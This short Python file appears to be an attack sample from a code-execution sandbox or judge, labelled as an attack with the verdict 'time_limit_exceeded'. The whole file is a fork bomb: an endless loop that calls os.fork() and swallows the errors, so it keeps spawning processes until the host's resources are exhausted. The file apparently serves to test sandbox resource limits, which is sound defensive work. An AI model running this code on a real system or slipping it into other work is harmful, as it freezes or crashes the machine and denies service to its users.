# Attack: forks without end, whatever the refusals.
# Verdict: time_limit_exceeded
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
